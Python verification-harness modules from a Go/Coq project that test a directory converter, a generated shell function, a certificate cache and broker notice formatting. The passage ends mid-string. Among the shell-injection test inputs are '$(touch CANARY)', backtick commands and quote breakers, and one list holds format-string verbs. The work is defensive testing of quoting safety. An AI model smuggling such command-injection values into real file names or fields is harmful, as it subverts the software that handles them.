            # dangling links: among dot-files and non-matching names normally; hostile cases put them anywhere
            k = "dangling" if (dot or hostile or not any(n.endswith(e) for e in (b".sh", b".pl", b".subr"))) else "reg"
        else:
            k = "fifo" if rng.randrange(2) else "reg"
        entries.append({"n": n.hex(), "k": k, "c": rng.choice(CONTENTS).hex()})
    rng.shuffle(entries)
    return {"t": "dir", "entries": entries}


def gen_cases(rng, tier):
    cases = []
    n = 500 if tier == "quick" else 12000
    for i in range(n):
        mode = rng.choice(["dir", "dir", "dir", "file", "multi"])
        hostile = rng.randrange(6) == 0
        c = {"default": rng.randrange(3) != 0, "filters": [], "addlist": rng.randrange(4) == 0}
        for _ in range(rng.choice([0, 0, 1, 2, 4])):
            p, f = rng.choice(EXTRA)
            if p == b"[" and not hostile:
                continue
            c["filters"].append([p.hex(), f])
        if mode == "dir":
            c["sources"] = [gen_dir(rng, hostile)]
        elif mode == "file":
            c["sources"] = [{"t": "file", "n": rng.choice(NAMES).hex(), "c": rng.choice(CONTENTS).hex()}]
        else:
            c["sources"] = []
            for _ in range(rng.randrange(0, 4)):
                r = rng.randrange(10)
                c["sources"].append(gen_dir(rng, hostile) if r < 5 else {"t": "missing"} if r == 9 and hostile else
                                    {"t": "file", "n": rng.choice(NAMES).hex(), "c": rng.choice(CONTENTS).hex()})
            # the same source given again (From(a, dir, a)): it is converted again, in its place
            if c["sources"] and rng.randrange(3) == 0:
                k = rng.randrange(len(c["sources"]))
                if c["sources"][k]["t"] in ("dir", "file"):
                    c["sources"].insert(rng.randrange(len(c["sources"]) + 1) if False else len(c["sources"]), {"t": "again", "of": k})
        c["i"] = i
        cases.append(c)
    # directories with far more eligible files than the driver has file descriptors (it runs with RLIMIT_NOFILE = 96)
    for nfiles in (130, 180):
        ents = [{"n": (b"f%04d.sh" % j).hex(), "k": "reg", "c": (b"f%d() { :; }\n" % j).hex()} for j in range(nfiles)]
        cases.append({"default": True, "filters": [], "addlist": False, "sources": [{"t": "dir", "entries": ents}], "i": len(cases)})
    return cases


def eff_table(c):
    t = dict(DEFAULT) if c["default"] else {}
    for ph, f in c["filters"]:
        p = bytes.fromhex(ph)
        if f == "delete":
            t.pop(p, None)
        else:
            t[p] = f
    return t


def filt_term(f):
    return {"shell": "FShell", "perl": "FPerl", "empty": "FEmpty", "fail": "FFail"}.get(f) or "(FTag %d)" % int(f[3:])


def kind_term(e):
    k = e["k"]
    if k in ("reg", "linkreg"):
        return "(KReg %s)" % vlib.coq_str(bytes.fromhex(e["c"]))
    return {"dir": "KDir", "linkdir": "KDir", "dangling": "KDangling", "fifo": "KSpecial"}[k]


def src_term(s, all_sources=None):
    if s["t"] == "again":
        return src_term(all_sources[s["of"]], all_sources)
    if s["t"] == "dir":
        return "(SDir [%s])" % "; ".join("(%s, %s)" % (vlib.coq_str(bytes.fromhex(e["n"])), kind_term(e)) for e in s["entries"])
    if s["t"] == "file":
        return "(SFile %s %s)" % (vlib.coq_str(bytes.fromhex(s["n"])), vlib.coq_str(bytes.fromhex(s["c"])))
    return "SInvalid"


def term(c, r):
    mt = "; ".join("(%s, %s, (%s, %s))" % (vlib.coq_str(bytes.fromhex(p)), vlib.coq_str(bytes.fromhex(n)), str(bool(m)).lower(), str(bool(b)).lower())
                   for p, n, m, b in r.get("match") or [])
    tab = "; ".join("(%s, %s)" % (vlib.coq_str(p), filt_term(f)) for p, f in eff_table(c).items())
    if r.get("r") == "ok":
        res = "(IOk %s)" % vlib.coq_str(bytes.fromhex(r["out"]))
    elif r.get("r") == "err":
        res = "(IErr %d)" % r.get("cls", 9)
    else:
        res = "IPanic"
    return "mk [%s] [%s] %s [%s] %s %s" % (mt, tab, str(bool(c["addlist"])).lower(), "; ".join(src_term(s, c["sources"]) for s in c["sources"]), res,
                                          str(bool(r.get("det"))).lower())


def check(run):
    vlib.static_obligations(run)
    ok, drv, log = vlib.build_drv(run.rundir)
    run.checker_cmds.append("go build -overlay (harness/drv inside /repo module) && drv conv")
    if not ok:
        run.oblige("harness builds against /repo", False, log)
        return
    cases = gen_cases(run.rng, run.tier)
    import os
    res, err = vlib.run_drv(drv, "conv", cases, env=dict(os.environ, VERIF_TMP=run.rundir, VERIF_NOFILE="96"))
    if err or res is None or len(res) != len(cases):
        run.oblige("harness ran all Converter.From cases", False, str(err))
        return
    setup = [r for r in res if r.get("setup_error")]
    run.oblige("harness could build every directory tree", not setup, json.dumps(setup[:3])[:2000])
    kinds = {}
    for c in cases:
        for s in c["sources"]:
            for e in s.get("entries", []):
                kinds[e["k"]] = kinds.get(e["k"], 0) + 1
    vlib.judge_stream(run, "convfrom", IMPORTS, "case", cases, res, term, CLAUSES, (0,),
                      "Converter.From on real temporary trees: 0-30 entries with spaces, glob characters, leading dots, several extensions, editor "
                      "lock/backup names, regular files, directories, valid file/dir symlinks, dangling symlinks (among dot-files and non-matching names; "
                      "anywhere in 'hostile' cases), fifos, empty files, files without final newline; default and user-modified filter tables (tagging, "
                      "empty, failing, deleted, overlapping, no-meta, class, escaped and malformed patterns); directory / single file / several sources; "
                      "with and without the list function; each call repeated. path.Match verdicts are taken from the real library as environment. "
                      "Non-trivial = distinct case whose expected payload is non-empty (tag 1) or that is out of scope / must fail (tag 2)",
                      dist_extra={"entry_kinds": kinds})
    run.assumptions += ["path.Match / filepath.Match / fs.Glob's directory reading are environment: their verdicts per (pattern, name) are inputs of the model",
                        "patterns are base-name patterns (no '/')", "FromPerl stands as modelled in Model/Perl.v (C16)"]
    run.trusted += ["harness/drv/conv.go", "props/c17.py generators", "hand-written model coq/Model/Conv.v; tie = this correspondence"]


def replay(run, path):
    def runner(case):
        import os
        ok, drv, log = vlib.build_drv(run.rundir)
        c = dict(case["input"])
        res, err = vlib.run_drv(drv, "conv", [c], env=dict(os.environ, VERIF_TMP=run.rundir))
        fl, tags, errors, _ = vlib.coq_eval(run.rundir, "replay", IMPORTS, "case", [term(c, res[0])], "judge_all")
        return fl, "input: %s\nimplementation now: %s\njudge: %s %s" % (json.dumps(c)[:3000], json.dumps(res)[:2000],
                                                                      [(s, CLAUSES.get(k, k)) for _, s, k in fl], errors)
    return vlib.replay_generic(run, path, runner)
