"""C18 - the generated tab_list function lists the documented functions and is quote-safe."""
import json, os, subprocess, tempfile
import vlib

IMPORTS = "From CRS Require Import Lib.Bytes Model.FuncList Judge.Common Judge.C18."
CLAUSES = {1: "generated function body is not 'echo' + ONE literal single-quoted word per row (quoting can be ended)",
           2: "rows read back from the generated function differ from the documented rows (sorted, distinct, self row)",
           3: "GenFuncList failed or panicked",
           10: "model/implementation differ on GenFuncList output"}
TW_CTRL = b"\t\v\f\xff"
SOUP = [b"'", b"'\\''", b"\\", b"\"", b"$(touch CANARY)", b"`touch CANARY`", b"; touch CANARY;", b"&&", b"|", b">CANARY",
        b"$HOME", b"${x}", b"'$(touch CANARY)'", b"'; touch CANARY; echo '", b"\\'", b"''", b"'''", b"#", b"*", b"?", b"~",
        b"\r", b"\x01", b"\x7f", b"\x1b[31m", b"\xc3\xa9", b"\xc3", b"\xe2\x80\xa8", b"\xc2\xa0", b" ", b"  ", b"}", b"{", b"()", b"!"]


def gen_payloads(rng, tier):
    ps = [b"", b"\n", b"# TABDOC:", b"# TABDOC:\n", b"# TABDOC: f\n", b"# TABDOC: f d\n# TABDOC: f d\n",
          b"# TABDOC:   spaced    out   desc  \n", b"#TABDOC: no\n", b" # TABDOC: indented\n", b"# TABDOC:nospace desc",
          b"# TABDOC: tab_list - This function list\n", b"# TABDOC: it's\n", b"# TABDOC: a 'q' \\ \"d\" $(x) `y`\n"]
    # very long payload lines (an embedded blob, a minified script) between tagged lines: around bufio.Scanner's 64 KiB token limit and beyond
    for big in (65535, 65536, 70000, 200000):
        ps.append(b"# TABDOC: before first\n" + b"x" * big + b"\n# TABDOC: after second\n")
    ps.append(b"# TABDOC: a one\n# TABDOC: " + b"y" * 3000 + b" long\n# TABDOC: z last\n")
    # distinct lines which differ only in where the first blank stands (name + description read the same when glued together)
    ps += [b"# TABDOC: a bc\n# TABDOC: ab c\n", b"# TABDOC: ab c\n# TABDOC: a bc\n# TABDOC: abc\n", b"# TABDOC: cdup Goes up\n# TABDOC: cd upGoes up\n",
           b"# TABDOC: getfile\n# TABDOC: get file\n# TABDOC: g etfile\n", b"# TABDOC: x  y\n# TABDOC: x y\n# TABDOC: xy\n"]
    n = 500 if tier == "quick" else 8000
    words = [b"f", b"g", b"longer_name", b"x", b"\xc3\xa9t\xc3\xa9", b"a'b", b"z" * 30]
    for _ in range(n):
        lines = []
        for _ in range(rng.choice([0, 1, 2, 3, 5, 8, 20, 60]) if rng.randrange(6) else rng.randrange(4)):
            k = rng.randrange(10)
            if k < 6:
                name = rng.choice(words) if rng.randrange(3) else b"".join(rng.choice(SOUP) for _ in range(rng.randrange(1, 3)))
                desc = b" ".join(rng.choice(SOUP + words) for _ in range(rng.randrange(0, 6)))
                l = b"# TABDOC:" + rng.choice([b" ", b"", b"  ", b"\t" if rng.randrange(8) == 0 else b" "]) + name + (b" " + desc if desc or rng.randrange(2) else b"")
            elif k == 6:
                l = b"# TABDOC:" + bytes(rng.choice([x for x in range(1, 256) if x != 10]) for _ in range(rng.randrange(0, 30)))
            elif k == 7:
                l = rng.choice([b"f() { echo hi; }", b"# just a comment", b"", b"#TABDOC: x y", b"  # TABDOC: x y"])
            elif k == 8:
                l = b"# TABDOC: " + rng.choice(words) + b" " + rng.choice([b"\t", b"\v", b"\f", b"\xff"]) + b"ctl"
            else:
                l = lines[-1] if lines else b"# TABDOC: dup dup"
            lines.append(l)
        if rng.randrange(5) == 0:
            rng.shuffle(lines)
        ps.append(b"\n".join(lines) + (b"\n" if rng.randrange(4) else b""))
    return ps


def fidelity(p):
    return not any(l.startswith(b"# TABDOC:") and any(c in l for c in TW_CTRL) for l in p.split(b"\n"))


def term(i, r):
    out = "(Some %s)" % vlib.coq_str(bytes.fromhex(r["out"])) if r.get("r") == "ok" else "None"
    return "mk %s %s %s" % (vlib.coq_str(bytes.fromhex(i["payload"])), out, "true" if i["fid"] else "false")


def shell_layer(run, inputs, res):
    """Behavioural test (not a proof): dash and bash source the generated function with echo replaced by a
    stub printing its argument count and argument; output must be the Coq model's rows, one word each,
    and no canary file may appear."""
    idx = [k for k, i in enumerate(inputs) if i["fid"] and res[k].get("r") == "ok" and b"\x00" not in bytes.fromhex(i["payload"])]
    idx = idx[:: max(1, len(idx) // (40 if run.tier == "quick" else 600))]
    rows = vlib.coq_query(run.rundir, "c18rows", IMPORTS, ["rows %s" % vlib.coq_str(bytes.fromhex(inputs[k]["payload"])) for k in idx])
    bad, ran = [], 0
    shells = [s for s in ("dash", "bash") if subprocess.run(["which", s], stdout=subprocess.DEVNULL).returncode == 0]
    for k, want in zip(idx, rows):
        d = tempfile.mkdtemp(dir=run.rundir)
        open(os.path.join(d, "f.sh"), "wb").write(
            b"echo() { printf '%s\\n' \"$#\"; printf '%s\\n' \"$1\"; }\n" + bytes.fromhex(res[k]["out"]) + b"\ntab_list\n")
        exp = b"".join(b"1\n" + w + b"\n" for w in want)
        for s in shells:
            p = subprocess.run([s, "f.sh"], cwd=d, stdout=subprocess.PIPE, stderr=subprocess.PIPE, timeout=30)
            ran += 1
            if p.stdout != exp or os.path.exists(os.path.join(d, "CANARY")) or p.returncode != 0:
                bad.append({"shell": s, "payload": inputs[k]["payload"], "stdout": p.stdout.hex()[:600], "want": exp.hex()[:600],
                            "stderr": p.stderr.decode(errors="replace")[:300], "canary": os.path.exists(os.path.join(d, "CANARY"))})
    for b in bad[:3]:
        run.violation("shell-run", "a real shell running the generated tab_list does not print exactly the documented rows as single words",
                      {"stream": "shell", "input": {"payload": b["payload"]}, "detail": b})
    run.oblige("behavioural test: %s print the model's rows, one literal word each (%d runs)" % ("/".join(shells), ran), not bad,
               json.dumps(bad[:3])[:3000])
    run.cov["shell_runs"] = ran


def check(run):
    vlib.static_obligations(run)
    ok, drv, log = vlib.build_drv(run.rundir)
    run.checker_cmds.append("go build -overlay (harness/drv inside /repo module) && drv sff")
    if not ok:
        run.oblige("harness builds against /repo", False, log)
        return
    inputs = [{"op": "funclist", "payload": p.hex(), "fid": fidelity(p), "i": k} for k, p in enumerate(gen_payloads(run.rng, run.tier))]
    res, err = vlib.run_drv(drv, "sff", inputs)
    if err or res is None or len(res) != len(inputs):
        run.oblige("harness ran all GenFuncList cases", False, str(err))
        return
    vlib.judge_stream(run, "funclist", IMPORTS, "case", inputs, res, term, CLAUSES, (0,),
                      "GenFuncList on payloads of 0-60 lines mixing TABDOC lines built from shell metacharacter soup, quote breakers, "
                      "control bytes, invalid UTF-8, Unicode spaces, duplicates, empties, untagged lines and tab-writer control bytes; "
                      "non-trivial = distinct payload with at least one documented row besides the self row (tag 1), or a row containing "
                      "a single quote (tag 2)", key_fn=lambda i: i["payload"],
                      dist_extra={"fidelity_cases": sum(1 for i in inputs if i["fid"]), "tabwriter_control_cases": sum(1 for i in inputs if not i["fid"])})
    shell_layer(run, inputs, res)
    run.assumptions += ["POSIX word lexing is modelled by Lib/ShLex.v (fragment: blanks, '...', backslash; anything else special is rejected); "
                        "agreement with dash/bash is sampled by the behavioural test",
                        "text/tabwriter is modelled for one tab-terminated column free of TAB/VT/FF/0xFF (the restriction in the property)"]
    run.trusted += ["harness/drv/sff.go", "props/c18.py generators", "hand-written model coq/Model/FuncList.v; tie = this correspondence"]


def replay(run, path):
    def runner(case):
        ok, drv, log = vlib.build_drv(run.rundir)
        i = dict(case["input"]); i["i"] = 0; i.setdefault("op", "funclist")
        i.setdefault("fid", fidelity(bytes.fromhex(i["payload"])))
        res, err = vlib.run_drv(drv, "sff", [i])
        fl, tags, errors, _ = vlib.coq_eval(run.rundir, "replay", IMPORTS, "case", [term(i, res[0])], "judge_all")
        return fl, "input: %s\nimplementation now: %s\njudge: %s %s" % (json.dumps(i)[:1500], json.dumps(res)[:1500],
                                                                      [(s, CLAUSES.get(c, c)) for _, s, c in fl], errors)
    return vlib.replay_generic(run, path, runner)
