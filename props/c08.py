"""C08 - certificate cache: stable identity, safe under torn writes, owner-only."""
import json, os, re
import vlib

IMPORTS = "From CRS Require Import Lib.Bytes Model.CertCache Judge.Common Judge.C08."
CLAUSES = {1: "with a cache file present (complete, cut short or damaged) the run served another key pair, or rewrote / regenerated the file",
           2: "a mismatched pair (private key not belonging to the certificate) was returned",
           3: "a missing cache file was not simply regenerated", 4: "the cache file or a directory created for it is accessible to group/others",
           6: "GetCertificate panicked", 10: "the decision differs from the model given what LoadCachedCertificate reports"}


def make_cases(rng, tier):
    cases = []
    # every crash point of the first write
    step = 1 if tier != "quick" else 1
    for rep in range(1 if tier == "quick" else 4):
        ops = [{"op": "start"}] + [{"op": "prefix", "n": n} for n in range(0, 1100, step)] + [{"op": "restore"}, {"op": "start"}]
        cases.append({"depth": rep % 5, "ops": ops})
    # single-byte corruptions in every region
    for rep in range(2 if tier == "quick" else 12):
        ops = [{"op": "start"}]
        for _ in range(200 if tier == "quick" else 600):
            ops.append({"op": "corrupt", "pos": rng.randrange(0, 5000), "how": rng.choice(["flip", "del", "ins", "case"]), "val": rng.randrange(256)})
        ops += [{"op": "restore"}, {"op": "start"}]
        cases.append({"depth": rng.randrange(0, 5), "ops": ops})
    # restart histories
    for rep in range(6 if tier == "quick" else 60):
        ops = []
        for _ in range(rng.randrange(3, 9)):
            ops.append({"op": rng.choice(["start", "start", "start", "delete", "nocache"])})
        cases.append({"depth": rng.randrange(0, 5), "ops": [{"op": "start"}] + ops})
    # the cache's directory loses owner permission bits between runs (never gaining group/other ones): the cache is still THE cache
    for rep, mode in enumerate(["500", "100", "300", "700"] if tier == "quick" else ["500", "100", "300", "700", "400", "000"]):
        cases.append({"depth": 1 + rep % 3, "ops": [{"op": "start"}, {"op": "start"}, {"op": "dirmode", "mode": mode}, {"op": "start"}, {"op": "start"},
                                                      {"op": "dirmode", "mode": "700"}, {"op": "start"}]})
    # a cache whose certificate has outlived its lifespan (the first run creates it already expired): still THE cache
    for rep in range(3 if tier == "quick" else 30):
        ops = [{"op": "start", "life_s": -3600 * (rep + 1)}]
        for _ in range(rng.randrange(3, 8)):
            ops.append({"op": rng.choice(["start", "start", "start", "nocache"]), "life_s": rng.choice([0, 0, 1, -5])})
        cases.append({"depth": rng.randrange(0, 5), "ops": ops})
    for k, c in enumerate(cases):
        c["i"] = k
    return cases


def overlapping(rng, tier):
    """runs that overlap in time on one cache path: A up, cache deleted, B up, probes; more runs, more deletions"""
    cases = []
    for rep in range(4 if tier == "quick" else 40):
        ops = [{"op": "listen"}, {"op": "probe"}]
        for _ in range(rng.randrange(1, 4)):
            ops += rng.choice([[{"op": "delete"}, {"op": "listen"}], [{"op": "listen"}], [{"op": "delete"}], [{"op": "start"}], [{"op": "listen_busy"}, {"op": "listen"}]])
            ops.append({"op": "probe", "sni": rng.choice(["", "", "c2.example.com", "localhost"])})
        if rep == 0:
            ops += [{"op": "listen_busy"}, {"op": "listen"}, {"op": "probe", "sni": "shell.example.org"}]
        cases.append({"depth": rng.randrange(0, 3), "ops": ops})
    # directed: A up, cache deleted, B up (creates a new cache), both probed; the same with a third run and with a start in between
    cases.append({"depth": 0, "ops": [{"op": "listen"}, {"op": "probe"}, {"op": "delete"}, {"op": "listen"}, {"op": "probe"}, {"op": "probe", "sni": "localhost"}]})
    cases.append({"depth": 1, "ops": [{"op": "listen"}, {"op": "delete"}, {"op": "start"}, {"op": "probe"}, {"op": "listen"}, {"op": "probe"},
                                      {"op": "delete"}, {"op": "listen"}, {"op": "probe", "sni": "c2.example.com"}]})
    return cases


def terms(case, res):
    out, ins = [], []
    orig, flen, present = None, res.get("filelen", 0), False
    for op, st in zip(case["ops"], res.get("steps") or []):
        k = op["op"]
        if k == "delete":
            present, orig = False, None
            continue
        if k == "restore":
            present = True
            continue
        if "r" not in st:
            continue
        if k == "nocache":
            kind = 4
        elif k == "start":
            kind = 1 if present else 0
        elif k == "prefix":
            kind = 1 if op["n"] >= flen else 2
        else:
            kind = 3
        if st["r"] == "ok":
            if kind in (0, 4) or orig is None:
                outcome = 0 if kind == 4 else (0 if orig is None else (0 if st["key"] == orig else 1))
                if kind == 0:
                    orig, outcome = st["key"], 0
                if kind == 1 and orig is None:
                    orig = st["key"]
            else:
                outcome = 0 if st["key"] == orig else 1
        elif st["r"] == "err":
            outcome = 2
        else:
            outcome = 3
        if kind == 0 and st["r"] == "ok":
            present = True
        changed = st.get("before") != st.get("after") and kind not in (0, 4)
        load = {"ok": 0, "notexist": 1, "err": 2}.get(st.get("load"), 9)
        mode = int(st.get("mode") or "0", 8)
        dm = [int(x, 8) for x in st.get("dirmodes") or []]
        out.append("mk %d %d %d %s %s %d [%s]" % (kind, load, outcome, str(bool(st.get("pair_ok", True))).lower(), str(bool(changed)).lower(), mode,
                                                 "; ".join(str(x) for x in dm)))
        ins.append({"case": case["i"], "depth": case["depth"], "op": op, "file_len": flen, "result": {k2: st.get(k2) for k2 in ("r", "load", "msg", "mode", "dirmodes", "pair_ok")},
                    "file_changed": changed, "outcome": ["original", "ANOTHER", "error", "panic"][outcome]})
    return out, ins


def check(run):
    vlib.static_obligations(run)
    ok, drv, log = vlib.build_drv(run.rundir)
    run.checker_cmds.append("go build -overlay harness/drv && drv cert (real sstls.GetCertificate / LoadCachedCertificate on real files)")
    if not ok:
        run.oblige("harness builds against /repo", False, log)
        return
    src = open(os.path.join(vlib.REPO, "lib/sstls/archive.go")).read()
    m1 = re.search(r"os\.MkdirAll\(\s*dn\s*,\s*(0[0-7]+)\s*\)", src)
    m2 = re.search(r"os\.WriteFile\(.*?\}\)\s*,\s*(0[0-7]+)\s*\)", src, re.S)
    modes_ok = bool(m1 and m2 and int(m1.group(1), 8) & 0o077 == 0 and int(m2.group(1), 8) & 0o077 == 0)
    run.oblige("source obligation: SaveCertificate creates directories and the cache file with owner-only mode literals", modes_ok,
               "MkdirAll mode %s, WriteFile mode %s" % (m1 and m1.group(1), m2 and m2.group(1)))
    cases = make_cases(run.rng, run.tier)
    os.umask(0o022)
    # the environment of the runs: TMPDIR on ANOTHER file system than the cache (when the machine has one) - a save that goes through a temporary
    # file cannot simply rename it into place there
    env, other = None, None
    try:
        if os.path.isdir("/dev/shm") and os.stat("/dev/shm").st_dev != os.stat(run.rundir).st_dev:
            import tempfile
            other = tempfile.mkdtemp(prefix="verif-c08-", dir="/dev/shm")
            env = dict(os.environ, TMPDIR=other)
    except OSError:
        pass
    run.cov["tmpdir_on_other_filesystem"] = bool(other)
    try:
        res, err = vlib.run_drv(drv, "cert", cases, args=[run.rundir], timeout=1200, env=env)
    finally:
        if other:
            import shutil
            shutil.rmtree(other, ignore_errors=True)
    if err or not res or len(res) != len(cases):
        run.oblige("cert driver ran all cases", False, str(err))
        return
    allt, alli = [], []
    for c, r in zip(cases, res):
        t, i = terms(c, r)
        allt += t; alli += i
    # observation (not a verdict): damaged caches which still load with the SAME key value but whose certificate carries other SubjectPublicKeyInfo bytes
    odd = []
    for c, r in zip(cases, res):
        raws = {}
        for op, st in zip(c["ops"], r.get("steps") or []):
            if st.get("r") == "ok" and st.get("key"):
                raws.setdefault(st["key"], st.get("rawkey"))
                if st.get("rawkey") != raws[st["key"]]:
                    odd.append({"case": c["i"], "op": op})
    run.cov["same_key_value_but_other_spki_bytes"] = {"count": len(odd), "examples": odd[:3]}
    flagged, tgs, errors, _ = vlib.coq_eval(run.rundir, "c08", IMPORTS, "case", allt, "judge_all", shard=300)
    run.checker_cmds.append("coqc c08_k.v (vm_compute of Judge.C08.judge_all)")
    run.oblige("case evaluation inside Coq completed", not errors, "\n".join(errors))
    viol = [f for f in flagged if f[1] == 2]
    for idx, sev, cl in viol[:10]:
        run.violation("cache-clause-%d" % cl, CLAUSES.get(cl, str(cl)), {"stream": "starts", "input": alli[idx], "clause": cl})
    run.oblige("monitor + correspondence on %d starts: EVERY prefix length of a cache file, %d single-byte corruptions, restart/delete/no-cache histories, "
               "0-4 not-yet-existing directories" % (len(allt), sum(1 for i in alli if i["op"]["op"] == "corrupt")), not flagged and not errors,
               json.dumps([dict(alli[i], clause=CLAUSES.get(c, c)) for i, s, c in flagged[:4]])[:4000])
    dist = {}
    for t in tgs:
        dist[str(t)] = dist.get(str(t), 0) + 1
    run.cov["exhaustive_prefixes"] = True
    run.stream("starts", len(allt), sum(1 for t in tgs if t not in (None, 10)),
               "starts of the real GetCertificate on: no file, complete file, the file cut at EVERY byte length 0..len-1 (exhaustive crash points of the first "
               "write), single-byte flips/deletions/insertions/case changes anywhere (comment, markers, certificate and key PEM), after deletion, without "
               "cache; umask 022; tag = kind*10+outcome; non-trivial = everything but 'complete file served unchanged'", [alli[1], alli[-1]], {"kind_outcome_tags": dist})
    oc = overlapping(run.rng, run.tier)
    for k, c in enumerate(oc):
        c["i"] = k
    ores, oerr = vlib.run_drv(drv, "cert", oc, args=[os.path.join(run.rundir, "certup")], timeout=300)
    if oerr or not ores or len(ores) != len(oc):
        run.oblige("cert driver ran the overlapping runs", False, str(oerr))
    else:
        pins, pouts = [], []
        for c, r in zip(oc, ores):
            for op, st in zip(c["ops"], r.get("steps") or []):
                if op["op"] == "listen_busy" and "file_same" in st:
                    pins.append({"case": c["i"], "op": "a start that fails at bind (address in use)"})
                    pouts.append({"started": ["unchanged"], "served": ["unchanged" if st["file_same"] else "cache file removed or rewritten"]})
                if op["op"] == "probe":
                    pins.append({"case": c["i"], "ops_so_far": [o["op"] for o in c["ops"][:c["ops"].index(op) + 1]]})
                    pouts.append({"started": st.get("started") or [], "served": st.get("served") or []})
        vlib.judge_stream(run, "overlapping", IMPORTS, "lcase", pins, pouts,
                          lambda i, r: "mkl [%s] [%s]" % ("; ".join(vlib.coq_str(x.encode()) for x in r["started"]), "; ".join(vlib.coq_str(x.encode()) for x in r["served"])),
                          {7: "a run that was still up presented another key pair than the one it started with (and advertised) after the cache file had "
                              "been deleted / re-created by another run"}, (0,),
                          "runs that overlap in time on one cache path (real sstls.Listen listeners, real handshakes): A up, cache deleted, B up, more runs "
                          "and deletions, starts that fail at bind; at every probe - also by clients that send a server name - each run that is still up must "
                          "present the key it presented when it started; a failed start leaves the cache file as it was",
                          judge="judge_up", key_fn=lambda i: json.dumps(i))
    run.assumptions += ["os.WriteFile leaves a prefix on a crash (torn files are constructed, the process is not killed mid-write)",
                        "txtar / PEM / X509KeyPair parsing is the libraries'; the hypothesis load_ok about them is checked by the enumeration above, not proved",
                        "permission bits observed under umask 022"]
    run.trusted += ["harness/drv/cert.go", "props/c08.py", "coq/Model/CertCache.v"]


def replay(run, path):
    body = json.load(open(path))
    print(json.dumps(body.get("case") or body.get("broken"), indent=1)[:3000])
    print("re-run: bin/check C08 --tier quick (keys are generated per run; the operation and position reproduce the case)")
    return 1
