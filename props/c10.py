"""C10 - client-supplied text appears verbatim in operator notices, never as a format."""
import json, os, re
import vlib
import brokerlib as B

HOSTILE = [b" %s", b"%d%v ", b"%s", b"%d%v", b"a%20b", b"100%", b"%!x(y)", b"%[1]s", b"%%", b"%q%q", b"%08.3f", b"%-5s_", b"x%cy", b"%T%p", b"plain", b"%"]


def translator_obligation(run):
    ok, out, log = vlib.run_translator(run, "fmtgraph")
    run.checker_cmds.append("translator/fmtgraph (go/types over /repo's working tree) -> GenFmt.v ; coqc GenDepC10.v (prog_wf GenFmt.sites = true by vm_compute)")
    if not ok:
        run.oblige("translator fmtgraph ran on /repo's working tree", False, log[-3000:])
        return None
    gen = os.path.join(run.rundir, "GenFmt.v")
    open(gen, "w").write(out)
    nsites = out.count("{| site :=")
    run.cov["printf_call_sites"] = nsites
    dep = os.path.join(run.rundir, "GenDepC10.v")
    open(dep, "w").write("From CRS Require Import Lib.Bytes Lib.Fmt Props.C10.\nFrom Gen Require Import GenFmt.\n"
                         "Definition bad := Eval vm_compute in map (fun x => (site x, callee x)) (filter (fun x => negb (site_wf x)) sites).\n"
                         "Definition badsites := Eval vm_compute in map (fun p => hexs (fst p)) bad.\nPrint badsites.\n"
                         "Theorem c10_prog_wf : prog_wf sites = true.\nProof. vm_compute. reflexivity. Qed.\n"
                         "Theorem c10_tree_no_computed : forall x, In x sites -> cls x <> FComputed.\n"
                         "Proof. exact (c10_wf_no_computed sites c10_prog_wf). Qed.\nPrint Assumptions c10_tree_no_computed.\n".replace(
                             "Props.C10.", "Props.C10 Judge.Common."))
    rc, o, e = vlib.coqc("GenFmt.v", run.rundir, extra_q=[(run.rundir, "Gen")])
    if rc:
        run.oblige("generated GenFmt.v compiles", False, (o + e)[-2000:])
        return None
    rc, o, e = vlib.coqc("GenDepC10.v", run.rundir, extra_q=[(run.rundir, "Gen")])
    bad = [bytes.fromhex(h).decode(errors="replace") for h in re.findall(r'"([0-9a-f]+)"', (re.search(r"badsites\s*=\s*(.*?)\s*:\s*list", o, re.S) or [None, ""])[1])]
    run.oblige("per-run obligation c10_prog_wf: all %d printf-style call sites of the tree have constant (or purely forwarded) formats with plain verbs "
               "and one operand per verb" % nsites, rc == 0 and nsites > 50,
               "ill-formed sites: %s\n%s" % (bad, (o + e)[-1500:]))
    return bad


def broker_stream(run):
    """IDs full of format verbs through the real broker: every notice that mentions an ID must show it verbatim."""
    binp = B.build(run)
    if not binp:
        return
    cases = []
    for k, hid in enumerate(HOSTILE):
        other = HOSTILE[(k + 3) % len(HOSTILE)]
        ops = [{"op": "admit", "s": 1, "d": "in", "key": B.K(hid), "wk": "plain", "wfail": -1, "ffail": -1},
               {"op": "admit", "s": 2, "d": "in", "key": B.K(hid), "wk": "plain", "wfail": -1, "ffail": -1},      # duplicate
               {"op": "admit", "s": 3, "d": "out", "key": B.K(other), "wk": "plain", "wfail": -1, "ffail": -1},   # wrong id
               {"op": "admit", "s": 4, "d": "out", "key": B.K(hid)},
               {"op": "data", "s": 4, "d": "", "err": "eof"}, {"op": "release", "s": 4},
               {"op": "admit", "s": 5, "d": "out", "key": B.K(other)}]                                          # tear-down window
        cases.append({"i": k, "ops": ops, "ids": [hid.decode(), other.decode()]})
        # a bidirectional /io client arrives while a unidirectional side with a hostile ID is attached: both its halves are rejected,
        # and the notices name the ID that is expected
        ops2 = [{"op": "admit", "s": 1, "d": "in", "key": B.K(hid), "wk": "plain", "wfail": -1, "ffail": -1},
                {"op": "ioreq", "si": 6, "so": 7, "wk": "plain", "wfail": -1, "ffail": -1}, {"op": "go", "s": 7}, {"op": "go", "s": 6}]
        cases.append({"i": 1000 + k, "ops": ops2, "ids": [hid.decode(), other.decode()], "io_expected": hid.decode()})
    res, err = vlib.run_overlay_test(binp, "TestVerifBroker", cases, run.rundir, tag="c10broker")
    bad, n = [], 0
    for c, r in zip(cases, res or []):
        keyof = {o["s"]: bytes.fromhex(o["key"]).decode() for o in c["ops"] if o["op"] == "admit"}
        for st in r.get("steps") or []:
            for x in st.get("och") or []:
                if x[0] != "note" or x[3] != "other":
                    continue
                text, sid = x[5], int(x[1][1:])
                n += 1
                want = '"%s"' % keyof.get(sid, "")
                if x[1].startswith("r"):             # a half of the /io request: the notice names the ID of the shell that is attached
                    want = '"%s"' % c.get("io_expected", "")
                if ("ID" in text and want not in text) or ("%!" in text and "%!" not in "".join(c["ids"])):
                    bad.append({"ids": c["ids"], "notice": text, "expected_to_contain": want})
    for b in bad[:1]:
        run.violation("broker-notice-format", "a broker notice does not show the callback ID verbatim (formatter artefacts or text missing)",
                      {"stream": "broker-ids", "input": {"ids": b["ids"]}, "detail": b})
    run.oblige("correspondence broker notices: %d notices about hostile IDs show the ID verbatim, no formatter artefact" % n,
               not err and not bad and n > 50, json.dumps(bad[:3]) + str(err))
    run.stream("broker-ids", len(cases), len(cases), "connected / duplicate / wrong-ID / tear-down notices for 14 IDs made of format verbs, flags, "
